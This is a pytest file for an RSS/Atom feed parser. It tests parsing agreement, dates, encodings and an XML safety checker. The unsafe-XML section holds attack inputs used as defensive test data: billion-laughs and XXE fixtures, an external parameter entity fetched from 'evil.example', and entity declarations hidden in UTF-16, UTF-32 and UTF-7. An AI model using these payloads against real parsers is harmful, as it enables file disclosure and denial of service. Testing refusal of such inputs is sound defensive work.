"""The rss adapter and the XML safety check, on fixture feeds (no network)."""

from __future__ import annotations

import codecs
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from imk_outreach.errors import SourceError, UnsafeDocumentError
from imk_outreach.models import Document, ParseResult, RawEntry, SourceSpec
from imk_outreach.sources.base import get_source
from imk_outreach.sources.rss import (
    FastPathUnavailable,
    RssSource,
    parse_fast,
    parse_feedparser,
    read_feed,
)
from imk_outreach.sources.xmlsafety import check_xml_safe

FEEDS = Path(__file__).parent / "fixtures" / "feeds"
BASE = "https://example.org/feed.xml"
SPEC = SourceSpec(name="t", type="rss", url=BASE, language="de")

# Every well-formed feed fixture, with the Content-Type a server would send.
WELL_FORMED = {
    "rss091_netscape.xml": "application/rss+xml",
    "rss10_rdf.xml": "application/rdf+xml",
    "rss20_full.xml": "application/rss+xml; charset=utf-8",
    "atom10_xmlbase.xml": "application/atom+xml",
    "atom03.xml": "application/atom+xml",
    "latin1.xml": "application/rss+xml",
    "utf16.xml": "application/xml",
}


def fixture(name: str) -> bytes:
    return (FEEDS / name).read_bytes()


def doc(body: bytes, content_type: str | None = "application/rss+xml") -> Document:
    return Document(source="t", base_url=BASE, body=body, content_type=content_type)


def parse(body: bytes, content_type: str | None = "application/rss+xml") -> ParseResult:
    return RssSource().parse(doc(body, content_type), SPEC)


def parse_error(body: bytes, content_type: str | None = "application/rss+xml") -> SourceError:
    with pytest.raises(SourceError) as caught:
        parse(body, content_type)
    return caught.value


def by_title(result: ParseResult) -> dict[str | None, RawEntry]:
    return {entry.title: entry for entry in result.entries}


def at(year: int, month: int, day: int, hour: int, minute: int) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


# --- both paths agree --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(WELL_FORMED))
def test_fast_path_and_feedparser_give_the_same_entries(name: str) -> None:
    body = fixture(name)
    fast = parse_fast(body)
    slow = parse_feedparser(body, WELL_FORMED[name])
    assert fast.entries, "a well-formed fixture must have entries"
    assert [e.link for e in fast.entries] == [e.link for e in slow.entries]
    assert [e.title for e in fast.entries] == [e.title for e in slow.entries]
    assert [(e.summary, e.summary_format) for e in fast.entries] == [
        (e.summary, e.summary_format) for e in slow.entries
    ]
    assert [e.published for e in fast.entries] == [e.published for e in slow.entries]
    assert [e.image for e in fast.entries] == [e.image for e in slow.entries]
    assert [e.tags for e in fast.entries] == [e.tags for e in slow.entries]
    assert fast.entries == slow.entries
    assert fast.base_url == slow.base_url
    assert fast.warnings == slow.warnings == ()


@pytest.mark.parametrize("name", sorted(WELL_FORMED))
def test_well_formed_feeds_take_the_fast_path(name: str) -> None:
    result, path = read_feed(fixture(name), WELL_FORMED[name])
    assert path == "lxml"
    assert result == parse_fast(fixture(name))


def test_malformed_feed_takes_the_feedparser_path() -> None:
    body = fixture("malformed.xml")
    with pytest.raises(FastPathUnavailable, match="not well-formed XML at line 24"):
        parse_fast(body)
    result, path = read_feed(body, "application/rss+xml")
    assert path == "feedparser"
    assert result == parse_feedparser(body, "application/rss+xml")


def test_the_source_is_registered_as_rss() -> None:
    assert isinstance(get_source("rss"), RssSource)


# --- RSS 2.0 -------------------------------------------------------------------------------------------


def test_rss20_content_encoded_is_preferred_and_media_content_is_the_image() -> None:
    result = parse(fixture("rss20_full.xml"))
    first = result.entries[0]
    assert (
        first.link
        == "https://medien-cluster.example/news/2024/foerderprogramm-digitale-buehne?utm_source=rss"
    )
    assert first.title == "Förderprogramm „Digitale Bühne“ startet"
    assert first.summary is not None and first.summary.startswith(
        '<p>Das Programm fördert <a href="/foerderung/xr">'
    )
    assert first.summary_format == "html"
    # the audio enclosure is no image; media:content is
    assert first.image == "https://cdn.medien-cluster.example/img/buehne-1200.jpg"
    assert first.published == at(2024, 3, 5, 8, 30)
    assert first.tags == ("Förderung", "XR")
    assert first.base_url is None and first.language is None
    assert result.base_url == "https://medien-cluster.example/"


def test_rss20_relative_link_stays_as_found_and_dc_date_and_image_enclosure_are_read() -> None:
    entry = parse(fixture("rss20_full.xml")).entries[1]
    assert entry.link == "/termine/games-stammtisch-maerz"
    # a title read as plain text is handed on as HTML (escaped): normalisation decodes it once
    assert entry.title == "Games-Stammtisch im März: Barrierefreiheit &amp; Spieldesign"
    assert entry.summary == "<p>Wir sprechen über <em>barrierefreies</em> Spieldesign.</p>"
    assert entry.published == at(2024, 3, 1, 17, 0)
    assert entry.image == "https://cdn.medien-cluster.example/img/stammtisch.png"
    assert entry.tags == ("Games",)


def test_rss20_permalink_guid_is_the_link_and_thumbnail_the_image() -> None:
    entries = parse(fixture("rss20_full.xml")).entries
    assert entries[2].link == "https://medien-cluster.example/news/2024/studie-kreativwirtschaft"
    assert entries[2].image == "https://cdn.medien-cluster.example/img/studie-thumb.jpg"
    assert entries[2].published == at(2024, 2, 28, 14, 0)
    # isPermaLink="false": the guid is never a link, the <link> is
    assert entries[3].link == "https://medien-cluster.example/presse/ohne-datum"


def test_unparseable_date_is_passed_on_as_the_raw_string() -> None:
    entry = parse(fixture("rss20_full.xml")).entries[3]
    assert entry.published == "irgendwann im März"
    assert entry.image is None


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Tue, 05 Mar 2024 09:30:00 +0100", at(2024, 3, 5, 8, 30)),
        ("Tue, 05 Mar 2024 09:30:00 GMT", at(2024, 3, 5, 9, 30)),
        ("2024-03-05T09:30:00Z", at(2024, 3, 5, 9, 30)),
        ("2024-03-05T09:30:00-05:00", at(2024, 3, 5, 14, 30)),
        ("2024-03-05T09:30:00", "2024-03-05T09:30:00"),  # naive: left to normalisation
        ("Tue, 05 Mar 2024 09:30:00 -0000", "Tue, 05 Mar 2024 09:30:00 -0000"),  # RFC 2822 "unknown zone"
        ("5. März 2024", "5. März 2024"),
    ],
)
def test_dates_are_aware_utc_or_the_raw_string_on_both_paths(raw: str, expected: datetime | str) -> None:
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>D</title>'
        f"<item><title>x</title><link>https://d.example/1</link><pubDate>{raw}</pubDate></item>"
        "</channel></rss>"
    ).encode()
    fast, slow = parse_fast(body).entries[0].published, parse_feedparser(body).entries[0].published
    assert fast == slow == expected
    if isinstance(fast, datetime):
        assert fast.utcoffset() == timedelta(0)


# --- other dialects ------------------------------------------------------------------------------------


def test_atom_links_follow_xml_base_and_each_entry_keeps_its_base() -> None:
    result = parse(fixture("atom10_xmlbase.xml"), "application/atom+xml")
    barcamp, job, hackathon = result.entries
    assert result.base_url == "https://kreativ-hub.example/blog/"
    assert barcamp.link == "https://kreativ-hub.example/blog/2024/03/barcamp-medien-ki"
    assert barcamp.base_url == "https://kreativ-hub.example/blog/"
    assert job.link == "https://kreativ-hub.example/jobs/volontariat-2024"
    assert job.base_url == "https://kreativ-hub.example/jobs/"
    # no alternate link: the first other link, never the tag: id
    assert hackathon.link == "https://partner.example/hackathon-rueckblick"


def test_atom_xhtml_content_is_html_without_the_wrapper_and_relative_urls_stay() -> None:
    barcamp = parse(fixture("atom10_xmlbase.xml"), "application/atom+xml").entries[0]
    assert barcamp.summary == (
        "<p>Am <strong>14. März</strong> treffen sich Medienschaffende und Entwickler:innen.</p>"
        '<p><a href="anmeldung">Jetzt anmelden</a><br>Eintritt frei.</p>'
        '<img src="img/barcamp.jpg" alt="Barcamp">'
    )
    assert barcamp.summary_format == "html"
    assert barcamp.title == "Barcamp <em>Medien &amp; KI</em> am 14. März"
    assert barcamp.image == "https://kreativ-hub.example/blog/img/barcamp-header.jpg"
    assert barcamp.tags == ("Veranstaltung", "KI")
    assert barcamp.published == at(2024, 3, 6, 7, 15)


def test_atom_text_summary_is_text_and_html_summary_beats_text_content() -> None:
    _, job, hackathon = parse(fixture("atom10_xmlbase.xml"), "application/atom+xml").entries
    assert job.summary == "Wir suchen ab Mai ein Volontariat (m/w/d). Bewerbung bis 31.3. <keine Markup>"
    assert job.summary_format == "text"
    assert job.published == at(2024, 3, 1, 12, 0)  # only <updated>
    assert job.image == "https://cdn.kreativ-hub.example/jobs.jpg"
    assert hackathon.summary == "<p>Zwölf Teams, <b>48 Stunden</b>.</p>"
    assert hackathon.summary_format == "html"
    assert hackathon.published == datetime(2024, 2, 28, 17, 0, 0, 250000, tzinfo=UTC)


def test_atom03_escaped_html_content_and_issued_date() -> None:
    (entry,) = parse(fixture("atom03.xml"), "application/atom+xml").entries
    assert entry.link == "https://designnetz.example/2024/portfolio-review"
    assert entry.summary == "<p>Anmeldung bis <b>10. März</b>.</p>"
    assert entry.published == at(2024, 3, 2, 9, 0)
    assert entry.tags == ("Design",)


def test_rss091_with_the_netscape_doctype_is_read_on_the_fast_path() -> None:
    body = fixture("rss091_netscape.xml")
    assert b"<!DOCTYPE rss PUBLIC" in body
    result, path = read_feed(body, "application/rss+xml")
    assert path == "lxml"
    assert [e.title for e in result.entries] == [
        "Drehbuchwerkstatt: Bewerbungsschluss 15. April",
        "Kurzfilmabend im Kulturhaus",
    ]
    assert result.entries[1].summary == "Sechs Filme, ein Publikumspreis & Gespräche mit den Teams."
    assert result.entries[0].published is None


def test_html_entities_of_the_netscape_dtd_are_read_by_feedparser() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><title>Kino</title><link>http://kino.example/</link>'
        "<item><title>Caf&eacute; und Kino</title><link>http://kino.example/1</link></item></channel></rss>"
    ).encode("latin-1")
    with pytest.raises(FastPathUnavailable):
        parse_fast(body)
    result, path = read_feed(body)
    assert path == "feedparser"
    assert result.entries[0].title == "Café und Kino"


def test_rss10_rdf_items_dc_date_and_subjects() -> None:
    result = parse(fixture("rss10_rdf.xml"), "application/rdf+xml")
    first, second = result.entries
    assert first.link == "https://softwareverbund.example/meldungen/open-source-tag"
    assert first.summary == "<p>Am <strong>20. April</strong> öffnen zwölf Unternehmen ihre Türen.</p>"
    assert first.published == at(2024, 3, 4, 7, 45)
    assert first.tags == ("Open Source", "Veranstaltung")
    assert second.summary == "Das Start-up entwickelt Werkzeuge für barrierefreie PDFs."
    assert second.published == "2024-02-27"  # a date without time zone: left to normalisation
    assert result.base_url == "https://softwareverbund.example/"


# --- encodings -----------------------------------------------------------------------------------------


def test_iso_8859_1_feed_is_decoded_as_declared() -> None:
    body = fixture("latin1.xml")
    assert b"Gr\xfc\xdfe aus K\xf6ln" in body  # really Latin-1 bytes, not UTF-8
    (entry,) = parse(body, "application/rss+xml").entries
    assert entry.title == "Grüße aus Köln: Straßenmusik-Förderung verlängert"
    assert entry.tags == ("Förderung",)


def test_utf16_feed_is_decoded() -> None:
    body = fixture("utf16.xml")
    assert body.startswith(codecs.BOM_UTF16_LE)
    (entry,) = parse(body, "application/xml").entries
    assert entry.title == "Spieleförderung: Jury wählt „Über den Wolken“"
    assert entry.summary == "Drei Studios erhalten zusammen 150.000 €."


# --- broken and foreign documents ----------------------------------------------------------------------


def test_malformed_feed_keeps_the_entries_before_the_flaw_with_a_warning() -> None:
    result = parse(fixture("malformed.xml"))
    titles = [e.title for e in result.entries]
    assert titles[:2] == ["VR-Labor öffnet für Start-ups", "360°-Doku gewinnt Preis"]
    assert result.entries[0].published == at(2024, 3, 7, 9, 0)
    (warning,) = result.warnings
    assert warning.startswith("feed is not well-formed XML (line 24: mismatched tag)")
    assert warning.endswith(f"kept {len(result.entries)} entries")


def test_html_page_is_refused_with_a_clear_reason() -> None:
    error = parse_error(fixture("html_page.html"), "text/html; charset=utf-8")
    assert error.reason.startswith("not an RSS or Atom feed: found an HTML page")
    assert error.source == "t" and error.url == BASE
    assert BASE in str(error)


def test_well_formed_xhtml_page_is_refused_as_html_too() -> None:
    body = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head></html>'
    assert "found an HTML page" in parse_error(body).reason


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not an RSS or Atom feed: the document is empty"),
        (b"  \r\n ", "not an RSS or Atom feed: the document is empty"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "found JSON"),
        (
            b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a.example/</loc></url></urlset>',
            "not an RSS or Atom feed: unknown root element <urlset>",
        ),
        (
            b'<?xml version="1.0"?>\n<rss version="2.0">\n<channel><title>Nur Titel</title><ite',
            "not an RSS or Atom feed: not well-formed XML at line 3",
        ),
        (b"Service Unavailable", "not an RSS or Atom feed: not well-formed XML at line 1, column 1"),
    ],
)
def test_documents_that_are_no_feed_raise_a_source_error(body: bytes, reason: str) -> None:
    assert reason in parse_error(body).reason


def test_well_formed_feed_without_items_is_empty_not_an_error() -> None:
    body = (
        b'<rss version="2.0"><channel><title>Leer</title><link>https://leer.example/</link></channel></rss>'
    )
    result = parse(body)
    assert result.entries == () and result.warnings == ()
    assert result.base_url == "https://leer.example/"


# --- unsafe XML ----------------------------------------------------------------------------------------


def test_billion_laughs_is_refused_before_parsing() -> None:
    body = fixture("billion_laughs.xml")
    error = parse_error(body)
    assert "entit" in error.reason and "lol" in error.reason
    with pytest.raises(UnsafeDocumentError, match="entity"):
        parse_fast(body)
    with pytest.raises(UnsafeDocumentError, match="entity"):
        parse_feedparser(body)


def test_xxe_is_refused_and_nothing_of_the_file_leaks() -> None:
    error = parse_error(fixture("xxe.xml"))
    assert "external entity 'xxe'" in error.reason
    assert "root:" not in str(error)
    passwd = Path("/etc/passwd")
    if passwd.exists():
        first_line = passwd.read_text(errors="replace").splitlines()[0]
        assert first_line not in str(error)


def test_entity_declared_in_a_utf16_document_is_refused() -> None:
    body = fixture("entity_utf16.xml")
    assert b"<!ENTITY" not in body  # only visible once decoded as UTF-16
    error = parse_error(body, "application/xml")
    assert "entity 'firma'" in error.reason


def test_an_external_dtd_is_never_loaded(tmp_path: Path) -> None:
    dtd = tmp_path / "secret.dtd"
    dtd.write_text('<!ENTITY secret "TOP-SECRET-MARKER">', encoding="utf-8")
    body = (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{dtd.as_uri()}">\n'
        '<rss version="2.0"><channel><title>T</title><link>https://a.example/</link>'
        "<item><title>Hallo &secret; Welt</title><link>https://a.example/1</link></item></channel></rss>"
    ).encode()
    result = parse(body)
    assert result.entries[0].link == "https://a.example/1"
    assert all("TOP-SECRET-MARKER" not in (e.title or "") for e in result.entries)


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><rss version="2.0"/>',
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>',
        b'<!DOCTYPE rss SYSTEM "rss.dtd" [ <!-- nothing declared --> ]><rss/>',
        b"<!doctype html><html></html>",
        b"<rss><channel><description><![CDATA[Wie man <!ENTITY x 'y'> schreibt]]></description>"
        b"</channel></rss>",
        '<?xml version="1.0" encoding="UTF-16"?><rss>Grüße</rss>'.encode("utf-16"),
    ],
)
def test_safe_documents_pass_the_check(body: bytes) -> None:
    check_xml_safe(body)


@pytest.mark.parametrize(
    ("body", "charset", "reason"),
    [
        (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
            None,
            "parameter entity 'p'",
        ),
        (b"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>", None, "internal subset"),
        (b'<!DOCTYPE r [<!-- <a> --> <!ENTITY x "y">]><r/>', None, "entity 'x'"),
        (
            b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y" "http://x.example/y">]><r/>',
            None,
            "external entity 'x'",
        ),
        (
            b"<?xml version='1.0'?>\n<!--" + b"-" * 9000 + b'--><!DOCTYPE r [<!ENTITY x "y">]><r/>',
            None,
            "entity",
        ),
        ('<!DOCTYPE r [<!ENTITY x "y">]><r/>'.encode("utf-16-le"), None, "entity 'x'"),
        ('<!DOCTYPE r [<!ENTITY x "y">]><r/>'.encode("utf-32"), None, "entity 'x'"),
        (
            b'<?xml version="1.0" encoding="UTF-7"?>'
            b"+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x +ACI-y+ACI-+AD4-+AF0-+AD4-<r/>",
            None,
            "entity 'x'",
        ),
        (b"+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x +ACI-y+ACI-+AD4-+AF0-+AD4-<r/>", "utf-7", "entity 'x'"),
    ],
)
def test_unsafe_documents_are_refused(body: bytes, charset: str | None, reason: str) -> None:
    with pytest.raises(UnsafeDocumentError) as caught:
        check_xml_safe(body, charset=charset)
    assert reason in caught.value.reason
